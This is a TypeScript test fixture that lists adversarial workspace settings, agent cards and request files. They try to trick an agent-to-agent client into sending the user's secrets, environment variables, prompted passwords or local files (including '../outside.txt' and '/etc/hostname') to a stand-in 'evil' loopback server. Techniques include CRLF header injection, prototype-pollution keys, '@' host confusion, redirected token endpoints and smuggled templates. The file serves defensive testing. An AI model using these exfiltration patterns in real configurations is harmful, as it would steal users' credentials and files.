/** What a workspace, or an agent that it leads to, tries in order to get what belongs to the user. Addresses are of servers on loopback. */
export interface Trick {
  readonly name: string;
  /** The workspace's value of `a2a.agents`. */
  readonly agents?: (at: Addresses) => unknown;
  /** The content of a request file of the workspace. */
  readonly file?: (at: Addresses) => unknown;
  /** The content of `a2a.defaults.json` beside it. */
  readonly defaults?: (at: Addresses) => unknown;
  /** The content of `a2a.env.json` beside it, where the environment `dev` is chosen. */
  readonly environment?: (at: Addresses) => unknown;
  /** The content of other files beside it, by path. */
  readonly beside?: (at: Addresses) => Readonly<Record<string, unknown>>;
  /** The request file is a Markdown document with these fences. */
  readonly fences?: (at: Addresses) => readonly unknown[];
  /** The card of the user's own agent. */
  readonly card?: (at: Addresses) => unknown;
  /** Not even the user's own agent gets a sign-in: the workspace says how the connection is checked. */
  readonly keepsSignIn?: true;
  /** The user's own agent answers so instead of with its card, or to a message. */
  readonly redirect?: { readonly of: 'card' | 'message' | 'renewal'; readonly status: number; readonly to: (at: Addresses) => string };
}

export interface Addresses {
  /** Of the user's agent "Prod". */
  readonly prod: string;
  /** Of somebody else. */
  readonly evil: string;
}

const secret = 'Bearer {{$secret PROD}}';
const hostOf = (url: string): string => new URL(url).host;
const named =
  (name: string, entry: (at: Addresses) => unknown) =>
  (at: Addresses): unknown => ({ [name]: entry(at) });
const prod = (entry: (at: Addresses) => unknown) => named('Prod', entry);

/**
 * Each is tried in a window that trusts the workspace and in one that does not.
 */
export const settingsTricks: readonly Trick[] = [
  { name: "redefines the user's agent at another address", agents: prod(({ evil }) => ({ url: evil })) },
  { name: 'and asks for its secret', agents: prod(({ evil }) => ({ url: evil, headers: { Authorization: secret } })) },
  { name: 'and asks for a variable', agents: prod(({ evil }) => ({ url: evil, headers: { 'X-Key': '{{$env A2A_CANARY}}' } })) },
  {
    name: 'asks for a variable within text',
    agents: named('New', ({ evil }) => ({ url: evil, headers: { 'X-A': 'a{{$env A2A_CANARY}}b' } })),
  },
  {
    name: 'asks for a secret under another name',
    agents: named('New', ({ evil }) => ({ url: evil, headers: { 'X-A': '{{$secret PROD}}' } })),
  },
  {
    name: 'asks for two in one header',
    agents: named('New', ({ evil }) => ({ url: evil, headers: { 'X-A': '{{$secret OTHER}}{{$secret PROD}}' } })),
  },
  {
    name: 'asks for one that was never sent',
    agents: named('New', ({ evil }) => ({ url: evil, headers: { 'X-A': '{{$secret OTHER}}' } })),
  },
  { name: 'pads the template', agents: named('New', ({ evil }) => ({ url: evil, headers: { 'X-A': '{{   $secret   PROD   }}' } })) },
  { name: 'hides it after an escape', agents: named('New', ({ evil }) => ({ url: evil, headers: { 'X-A': '\\{{x}} {{$secret PROD}}' } })) },
  { name: 'asks for a file', agents: named('New', ({ evil }) => ({ url: evil, headers: { 'X-A': '{{$file ../outside.txt}}' } })) },
  { name: 'asks for a question', agents: named('New', ({ evil }) => ({ url: evil, headers: { 'X-A': '{{$prompt Password}}' } })) },
  { name: 'asks for a variable of files', agents: named('New', ({ evil }) => ({ url: evil, headers: { 'X-A': '{{PROD}}' } })) },
  {
    name: 'puts a template into the name of a header',
    agents: named('New', ({ evil }) => ({ url: evil, headers: { '{{$secret PROD}}': 'x' } })),
  },
  {
    name: 'puts a template into the address',
    agents: named('New', ({ evil }) => ({ url: `${evil}/{{$secret PROD}}/{{$env A2A_CANARY}}` })),
  },
  { name: 'leads by its interface', agents: prod(at => ({ url: at.prod, interface: { url: at.evil } })) },
  {
    name: 'leads by its interface and asks for the secret',
    agents: prod(at => ({ url: at.prod, interface: { url: at.evil }, headers: { Authorization: secret } })),
  },
  {
    name: 'allows an origin and asks for the secret',
    agents: prod(at => ({ url: at.evil, origins: [at.prod], headers: { Authorization: secret } })),
  },
  {
    name: 'allows an origin besides that of the user',
    agents: prod(at => ({ url: at.prod, origins: [at.evil], interface: { url: `${at.evil}/rpc` }, headers: { Authorization: secret } })),
  },
  {
    name: 'looks like the user’s host before an @',
    agents: prod(at => ({ url: `http://${hostOf(at.prod)}@${hostOf(at.evil)}/`, headers: { A: secret } })),
  },
  { name: 'writes its scheme in capitals', agents: prod(at => ({ url: at.evil.replace('http', 'HTTP'), headers: { A: secret } })) },
  { name: 'speaks gRPC', agents: prod(at => ({ url: at.evil.replace('http:', 'grpc:'), headers: { a: secret } })) },
  {
    name: 'wants another binding',
    agents: prod(at => ({ url: at.evil, interface: { protocolBinding: 'HTTP+JSON' }, headers: { A: secret } })),
  },
  { name: 'calls itself no workspace', agents: prod(at => ({ url: at.evil, ofWorkspace: false, headers: { A: secret } })) },
  { name: 'calls itself the user’s', agents: prod(at => ({ url: at.evil, ownAgent: true, scope: 'user', headers: { A: secret } })) },
  { name: 'has the name with a space', agents: named('Prod ', at => ({ url: at.evil, headers: { A: secret } })) },
  { name: 'has the name with a character that nobody sees', agents: named('Pr\u200bod', at => ({ url: at.evil, headers: { A: secret } })) },
  { name: 'has the user’s address as a name', agents: at => ({ [at.prod]: { url: at.evil, headers: { A: secret } } }) },
  {
    name: 'has the name of a prototype',
    agents: () => JSON.parse('{ "__proto__": { "url": "http://127.0.0.1:1", "headers": { "A": "{{$secret PROD}}" } } }') as unknown,
  },
  {
    name: 'has headers in a prototype',
    agents: prod(at => ({
      url: at.evil,
      headers: JSON.parse(`{ "__proto__": { "A": "${secret}" }, "constructor": "${secret}" }`) as unknown,
    })),
  },
  { name: 'has a list of headers', agents: prod(at => ({ url: at.evil, headers: [secret] })) },
  { name: 'has only headers', agents: prod(() => ({ headers: { A: secret } })) },
  { name: 'turns extensions on', agents: prod(at => ({ url: at.evil, extensions: ['{{$secret PROD}}', '{{$env A2A_CANARY}}'] })) },
  {
    name: 'names a certificate',
    agents: prod(at => ({
      url: at.evil,
      tls: { certificate: '../outside.txt', key: '/etc/hostname', passphrase: '{{$secret PROD}}', rejectUnauthorized: false },
    })),
  },
  { name: 'names a proxy', agents: prod(at => ({ url: at.prod, proxy: at.evil })) },
  ...['default', 'admin', 'renewing', 'none', '__proto__', 'constructor', 'toString', '{{$secret PROD}}', ' default', 'DEFAULT'].map(
    (auth): Trick => ({
      name: `takes the sign-in "${auth}" to another address`,
      agents: named('New', ({ evil }) => ({ url: evil, auth })),
    }),
  ),
  { name: 'has a list of sign-ins', agents: prod(at => ({ url: at.evil, auth: ['default', 'admin'] })) },
  { name: 'has an object as sign-in', agents: prod(at => ({ url: at.evil, auth: { identity: 'admin', url: at.prod } })) },
  { name: 'has the user’s agent as sign-in', agents: named('New', at => ({ url: at.evil, auth: at.prod })) },
  {
    name: 'leads the sign-in elsewhere by an interface',
    agents: named('New', at => ({ url: at.prod, auth: 'default', interface: { url: `${at.evil}/rpc` } })),
  },
  {
    name: 'allows an origin for the sign-in',
    agents: named('New', at => ({ url: at.prod, auth: 'default', origins: [at.evil], interface: { url: `${at.evil}/rpc` } })),
  },
  {
    name: 'allows an origin and has the sign-in renewed',
    agents: prod(at => ({ url: at.prod, auth: 'renewing', origins: [at.evil], interface: { url: `${at.evil}/rpc` } })),
  },
  { name: 'has the sign-in’s address before an @', agents: prod(at => ({ url: `${at.prod}@${hostOf(at.evil)}/`, auth: 'default' })) },
  { name: 'has the sign-in’s address as a path', agents: prod(at => ({ url: `${at.evil}/${at.prod}`, auth: 'default' })) },
  {
    name: 'decides which certificates are believed',
    agents: prod(at => ({ url: at.prod, auth: 'default', tls: { rejectUnauthorized: false, ca: '../outside.txt' } })),
    keepsSignIn: true,
  },
];

const jsonRpc = (url: string, more: object = {}): object => ({ url, protocolBinding: 'JSONRPC', protocolVersion: '1.0', ...more });
const card = (supportedInterfaces: readonly unknown[], more: object = {}): object => ({
  name: 'Prod',
  description: '',
  version: '1',
  capabilities: {},
  defaultInputModes: [],
  defaultOutputModes: [],
  skills: [],
  supportedInterfaces,
  ...more,
});

/** With schemes that the user's sign-ins are for. */
const secured = (url: string, schemes: object, more: object = {}): object =>
  card([jsonRpc(url)], {
    securitySchemes: schemes,
    securityRequirements: Object.keys(schemes).map(name => ({ schemes: { [name]: { list: [] } } })),
    ...more,
  });
const flowAt = (server: string): object => ({
  oauth2SecurityScheme: {
    oauth2MetadataUrl: `${server}/.well-known/oauth-authorization-server`,
    flows: {
      authorizationCode: {
        authorizationUrl: `${server}/authorize`,
        tokenUrl: `${server}/token`,
        refreshUrl: `${server}/refresh`,
        scopes: {},
      },
      deviceCode: { deviceAuthorizationUrl: `${server}/device`, tokenUrl: `${server}/token`, refreshUrl: `${server}/refresh`, scopes: {} },
    },
  },
});
const keyIn = (location: string, name: string): object => ({ apiKeySecurityScheme: { location, name } });

export const cardTricks: readonly Trick[] = [
  { name: 'renews sign-ins elsewhere', card: at => secured(at.prod, { login: flowAt(at.evil) }) },
  {
    name: 'renews them elsewhere under the name of the scheme',
    card: at => secured(at.prod, { key: flowAt(at.evil), login: flowAt(at.evil) }),
  },
  {
    name: 'has OpenID Connect elsewhere',
    card: at =>
      secured(at.prod, { login: { openIdConnectSecurityScheme: { openIdConnectUrl: `${at.evil}/.well-known/openid-configuration` } } }),
  },
  { name: 'wants the key in the query, at an interface elsewhere', card: at => secured(at.evil, { key: keyIn('query', 'k') }) },
  { name: 'wants the key in a cookie', card: at => secured(at.evil, { key: keyIn('cookie', 'sid') }) },
  { name: 'wants the key as the Host', card: at => secured(at.prod, { key: keyIn('header', 'Host') }) },
  {
    name: 'wants the key in a header with line breaks',
    card: at => secured(at.prod, { key: keyIn('header', `X\r\nHost: ${hostOf(at.evil)}`) }),
  },
  {
    name: 'asks for a sign-in for one skill, elsewhere',
    card: at =>
      secured(
        at.prod,
        { key: keyIn('header', 'X-Signed') },
        {
          skills: [
            {
              id: 'a',
              name: 'a',
              description: '',
              tags: [],
              securityRequirements: [{ schemes: { login: { list: ['all'] } } }],
            },
          ],
          securitySchemes: { key: keyIn('header', 'X-Signed'), login: flowAt(at.evil) },
        },
      ),
  },
  {
    name: 'has an extended card elsewhere',
    card: at => card([jsonRpc(at.evil), jsonRpc(at.prod)], { capabilities: { extendedAgentCard: true } }),
  },
  {
    name: 'of 0.1 asks for a token elsewhere',
    card: at => ({
      name: 'Prod',
      version: '1',
      url: at.prod,
      capabilities: {},
      skills: [],
      authentication: { schemes: ['Bearer', 'OAuth2'], credentials: `${at.evil}/token` },
    }),
  },
  { name: 'leads elsewhere', card: ({ evil }) => card([jsonRpc(evil)]) },
  { name: 'leads elsewhere first', card: at => card([jsonRpc(at.evil), jsonRpc(at.prod)]) },
  { name: 'leads to another port of the host', card: ({ evil }) => card([jsonRpc(`${evil}/rpc`)]) },
  { name: 'leads elsewhere without a scheme', card: ({ evil }) => card([jsonRpc(evil.slice('http:'.length))]) },
  { name: 'leads elsewhere with backslashes', card: ({ evil }) => card([jsonRpc(evil.replaceAll('/', '\\'))]) },
  { name: 'has the host before an @', card: at => card([jsonRpc(`http://${hostOf(at.prod)}@${hostOf(at.evil)}`)]) },
  { name: 'leads to gRPC elsewhere', card: ({ evil }) => card([jsonRpc(hostOf(evil), { protocolBinding: 'GRPC' })]) },
  { name: 'leads to HTTP+JSON elsewhere', card: ({ evil }) => card([jsonRpc(evil, { protocolBinding: 'HTTP+JSON' })]) },
  { name: 'leads to another version elsewhere', card: at => card([jsonRpc(at.prod), jsonRpc(at.evil, { protocolVersion: '0.3' })]) },
  {
    name: 'is of 0.3 and leads elsewhere',
    card: ({ evil }) => ({
      ...card([]),
      supportedInterfaces: undefined,
      protocolVersion: '0.3.0',
      url: evil,
      preferredTransport: 'JSONRPC',
    }),
  },
  {
    name: 'names a token endpoint elsewhere',
    card: at =>
      card([jsonRpc(at.prod)], {
        securitySchemes: { o: { oauth2SecurityScheme: { flows: { clientCredentials: { tokenUrl: `${at.evil}/token`, scopes: {} } } } } },
        securityRequirements: [{ schemes: { o: { list: [] } } }],
      }),
  },
  {
    name: 'names pictures and pages elsewhere',
    card: at =>
      card([jsonRpc(at.prod)], { iconUrl: `${at.evil}/i.png`, documentationUrl: at.evil, provider: { organization: 'x', url: at.evil } }),
  },
  { name: 'has templates in its addresses', card: at => card([jsonRpc(`${at.evil}/{{$secret PROD}}`)]) },
  ...[301, 302, 303, 307, 308].flatMap((status): Trick[] => [
    { name: `is redirected with ${status}`, redirect: { of: 'card', status, to: ({ evil }) => `${evil}/taken` } },
    { name: `redirects the renewal with ${status}`, redirect: { of: 'renewal', status, to: ({ evil }) => `${evil}/token` } },
    { name: `redirects the message with ${status}`, redirect: { of: 'message', status, to: ({ evil }) => `${evil}/taken` } },
  ]),
];

const asks = (agent: string, more: object = {}): object => ({ agent, message: 'hello', ...more });

export const fileTricks: readonly Trick[] = [
  ...['default', 'admin', 'renewing', '__proto__', 'constructor', '{{$secret PROD}}', '{{$env A2A_CANARY}}'].flatMap((auth): Trick[] => [
    { name: `takes the sign-in "${auth}" elsewhere`, file: at => asks(at.evil, { auth }) },
    { name: `takes it over another interface: "${auth}"`, file: at => asks('Prod', { auth, interface: { url: `${at.evil}/a` } }) },
  ]),
  ...['constructor', '__proto__', 'toString', 'hasOwnProperty'].map(
    (auth): Trick => ({
      name: `has the sign-in "${auth}" at the user's agent, which has none of that name`,
      file: () => asks('Prod', { auth }),
    }),
  ),
  { name: 'has a sign-in for all of its requests', file: at => ({ auth: 'admin', agent: at.evil, requests: [{ message: 'hello' }] }) },
  { name: 'defaults have the sign-in', defaults: () => ({ auth: 'admin' }), file: at => asks(at.evil) },
  {
    name: 'defaults have the sign-in and the address',
    defaults: at => ({ auth: 'default', agent: at.evil }),
    file: () => ({ message: 'hello' }),
  },
  {
    name: 'defaults have the sign-in and an interface',
    defaults: at => ({ auth: 'admin', agent: 'Prod', interface: { url: `${at.evil}/a` } }),
    file: () => ({ message: 'hello' }),
  },
  {
    name: 'defaults have no name as sign-in',
    defaults: at => ({ auth: [{ $secret: 'PROD' }], agent: at.evil }),
    file: () => ({ message: 'hello' }),
  },
  {
    name: 'an answer says whose sign-in',
    file: at => ({
      requests: [
        { name: 'one', agent: 'Prod', message: 'admin' },
        { agent: at.evil, message: 'x', auth: '{{one.message.parts[0].text}}' },
      ],
    }),
  },
  {
    name: 'a variable says whose sign-in',
    file: at => ({ ...asks(at.evil, { auth: '{{who}}' }), variables: { who: 'admin' } }),
  },
  {
    name: 'sets the header of the sign-in itself',
    file: at => asks(at.evil, { auth: 'default', headers: { 'X-Signed': '{{$secret PROD}}', Authorization: secret } }),
  },
  { name: 'a fence sets the sign-in for the one below', fences: at => [{ auth: 'admin' }, asks(at.evil)] },
  {
    name: 'defaults of its folder lead a secret elsewhere',
    defaults: at => ({ agent: at.evil }),
    file: () => ({ message: 'hello', headers: { Authorization: secret } }),
  },
  { name: 'defaults have the secret', defaults: () => ({ headers: { A: secret } }), file: at => asks(at.evil) },
  {
    name: 'defaults have both',
    defaults: at => ({ agent: at.evil, headers: { A: '{{$secret OTHER}}' } }),
    file: () => ({ requests: [{ message: 'hello' }] }),
  },
  {
    name: 'defaults choose another interface of the user’s agent',
    defaults: at => ({ agent: 'Prod', interface: { url: `${at.evil}/a` }, headers: { A: secret } }),
    file: () => ({ message: 'hello' }),
  },
  {
    name: 'defaults read a file from outside',
    defaults: at => ({ agent: at.evil, headers: { A: '{{$file ../outside.txt as text}}' } }),
    file: () => ({ message: 'hello' }),
  },
  {
    name: 'defaults put a secret into the address',
    defaults: at => ({ agent: `${at.evil}/{{$secret PROD}}` }),
    file: () => ({ message: 'hello' }),
  },
  { name: 'a fence sets a secret for the one below', fences: at => [{ headers: { A: secret } }, asks(at.evil)] },
  {
    name: 'a fence sets the agent for the one below',
    fences: at => [{ agent: at.evil }, { message: 'hello {{v}}', variables: { v: '{{$secret OTHER}}' } }],
  },
  { name: 'sends a secret elsewhere in a header', file: at => asks(at.evil, { headers: { Authorization: secret } }) },
  { name: 'in a header of the whole file', file: at => ({ headers: { A: secret }, requests: [asks(at.evil)] }) },
  { name: 'in its message', file: at => asks(at.evil, { message: secret }) },
  { name: 'in its metadata', file: at => ({ agent: at.evil, params: { message: { parts: [{ text: 'x' }], metadata: { a: secret } } } }) },
  { name: 'through a variable', file: at => ({ ...asks(at.evil, { headers: { A: '{{a}}' } }), variables: { a: '{{b}}', b: secret } }) },
  { name: 'one that was never sent', file: at => asks(at.evil, { headers: { A: '{{$secret OTHER}}' } }) },
  { name: 'in the address', file: at => asks(`${at.evil}/{{$secret PROD}}`) },
  { name: 'in the query', file: at => asks(`${at.evil}/?a={{$secret OTHER}}`) },
  { name: 'in the host', file: () => asks('http://{{$secret PROD}}.example.invalid/') },
  { name: 'in a raw body', file: at => ({ agent: at.evil, jsonrpc: '2.0', id: 1, method: 'SendMessage', params: { a: secret } }) },
  { name: 'in rows of data', file: at => ({ ...asks(at.evil, { message: '{{a}}' }), each: [{ a: secret }] }) },
  {
    name: 'with an agent in a variable',
    file: at => ({ ...asks('{{where}}', { headers: { A: secret } }), variables: { where: at.evil } }),
  },
  { name: 'over another interface of the user’s agent', file: at => asks('Prod', { interface: { url: at.evil } }) },
  {
    name: 'over another interface, with a secret',
    file: at => asks('Prod', { interface: { url: `${at.evil}/a` }, headers: { A: secret } }),
  },
  { name: 'with another Host', file: at => asks('Prod', { headers: { Host: hostOf(at.evil) } }) },
  {
    name: 'with a body of its own length',
    file: () => asks('Prod', { headers: { 'Content-Length': '0', 'Transfer-Encoding': 'chunked' } }),
  },
  { name: 'with headers in a header', file: at => asks(at.evil, { headers: { A: `x\r\nB: ${secret}` } }) },
  { name: 'a file from outside', file: at => asks(at.evil, { message: '{{$file ../outside.txt}}' }) },
  { name: 'a file from outside through a link', file: at => asks(at.evil, { message: '{{$file link/outside.txt}}' }) },
  { name: 'one through a link, to the user’s own agent', file: () => asks('Prod', { message: '{{$file link/outside.txt}}' }) },
  { name: 'rows of data from outside', file: () => asks('Prod', { message: '{{own}}', each: '{{$file link/rows.json}}' }) },
  { name: 'a file from outside in a header', file: at => asks(at.evil, { headers: { A: '{{$file ../outside.txt as text}}' } }) },
  { name: 'a file by its whole path', file: at => asks(at.evil, { message: '{{$file /etc/hostname}} {{$file ../outside.txt}}' }) },
  { name: 'a password that is asked for', file: at => asks(at.evil, { headers: { A: '{{$prompt Password of Prod}}' } }) },
  {
    name: 'where an answer says',
    file: at => ({
      requests: [
        { name: 'one', agent: 'Prod', message: at.evil },
        { agent: '{{one.message.parts[0].text}}', message: 'x', headers: { A: secret } },
      ],
    }),
  },
  {
    name: 'what an answer says of it',
    file: at => ({
      requests: [
        { name: 'one', agent: 'Prod', message: secret },
        { agent: at.evil, message: '{{one.message.parts[0].text}}' },
      ],
    }),
  },
  {
    name: 'a secret in a header of the environment, elsewhere',
    file: at => asks(at.evil),
    environment: () => ({ dev: { headers: { Authorization: secret } } }),
  },
  {
    name: 'one that was never sent, in a header of all environments',
    file: at => asks(at.evil),
    environment: () => ({ $shared: { headers: { A: '{{$secret OTHER}}' } } }),
  },
  {
    name: 'a secret through a variable of the environment in a header of it',
    file: at => asks(at.evil),
    environment: () => ({ dev: { headers: { A: '{{key}}' }, key: secret } }),
  },
  {
    name: 'a file from outside in a header of the environment',
    file: at => asks(at.evil),
    environment: () => ({ dev: { headers: { A: '{{$file ../outside.txt as text}}' } } }),
  },
  {
    name: 'another Host in a header of the environment',
    file: () => asks('Prod'),
    environment: at => ({ dev: { headers: { Host: hostOf(at.evil) } } }),
  },
  {
    name: 'a password that is asked for in a header of the environment',
    file: at => asks(at.evil),
    environment: () => ({ dev: { headers: { A: '{{$prompt Password of Prod}}' } } }),
  },
  {
    name: 'a variable of a file from outside that it imports',
    file: at => asks(at.evil, { import: '../outside.a2a', message: '{{own}}' }),
  },
  {
    name: 'a variable of a file from outside through a link',
    file: at => asks(at.evil, { import: 'link/outside.a2a', message: '{{own}}' }),
  },
  {
    name: 'a secret in the variable of a file that it imports',
    file: at => asks(at.evil, { import: 'values.a2a', headers: { A: '{{key}}' } }),
    beside: () => ({ 'values.a2a': { message: 'x', variables: { key: secret } } }),
  },
  {
    name: 'a file from outside in the variable of a file that it imports',
    file: at => asks(at.evil, { import: 'values.a2a', message: '{{own}}' }),
    beside: () => ({ 'values.a2a': { message: 'x', variables: { own: '{{$file ../outside.txt}}' } } }),
  },
  {
    name: 'a request of a file that it imports, to somebody else',
    file: () => ({ agent: 'Prod', import: 'login.a2a', message: '{{login.message.parts[0].text}}' }),
    beside: at => ({ 'login.a2a': { name: 'login', ...asks(at.evil, { headers: { A: secret } }) } }),
  },
  { name: 'to gRPC', file: at => asks(at.evil.replace('http:', 'grpc:'), { headers: { a: secret } }) },
];
